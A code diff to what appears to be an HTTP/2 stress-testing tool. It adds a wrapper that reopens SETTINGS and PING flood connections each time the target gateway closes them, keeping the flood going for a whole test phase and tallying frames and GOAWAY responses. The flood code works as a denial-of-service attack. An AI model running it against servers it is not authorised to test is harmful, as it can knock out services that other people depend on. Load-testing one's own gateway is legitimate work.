@@ -766,14 +766,45 @@ def flood(target, seconds, setup, batch, label):
         s.close()
 
 
+def reconnecting(seconds, one_connection):
+    """Runs `one_connection(seconds_left)` again each time the gateway closes it, for the whole
+    phase, as a determined attacker would, so the probe measures a flood that never stops; sums
+    what the connections reported."""
+    deadline = time.monotonic() + seconds
+    runs = []
+    while True:
+        left = deadline - time.monotonic()
+        if left <= 0.05:
+            break
+        run = one_connection(left)
+        runs.append(run)
+        if not run["closed"]:
+            break
+    frames = sum(r["frames_sent"] for r in runs)
+    closed = sum(1 for r in runs if r["closed"])
+    goaways = {}
+    for r in runs:
+        if r["goaway"]:
+            goaways[r["goaway"][1]] = goaways.get(r["goaway"][1], 0) + 1
+    shown = ", ".join(f"{n}x {c}" for c, n in goaways.items()) or "none"
+    first = runs[0]["outcome"] if runs else "no connection"
+    outcome = (f"{len(runs)} connections, {frames} frames in all ({frames / seconds:,.0f}/s), "
+               f"{closed} closed by the gateway, GOAWAY {shown}; first connection: {first}")
+    return {"outcome": outcome, "connections": len(runs), "frames_sent": frames,
+            "closed_by_gateway": closed, "goaways": goaways,
+            "closed": runs[-1]["closed"] if runs else None}
+
+
 def attack_settings_flood(target, args, seconds):
     one = settings_frame()
-    return flood(target, seconds, PREFACE + settings_frame(), (one * 1000, len(one)), "SETTINGS")
+    return reconnecting(seconds, lambda left: flood(
+        target, left, PREFACE + settings_frame(), (one * 1000, len(one)), "SETTINGS"))
 
 
 def attack_ping_flood(target, args, seconds):
     one = frame(PING, 0, 0, b"\x00" * 8)
-    return flood(target, seconds, PREFACE + settings_frame(), (one * 1000, len(one)), "PING")
+    return reconnecting(seconds, lambda left: flood(
+        target, left, PREFACE + settings_frame(), (one * 1000, len(one)), "PING"))
 
 
 def attack_window_flip(target, args, seconds):
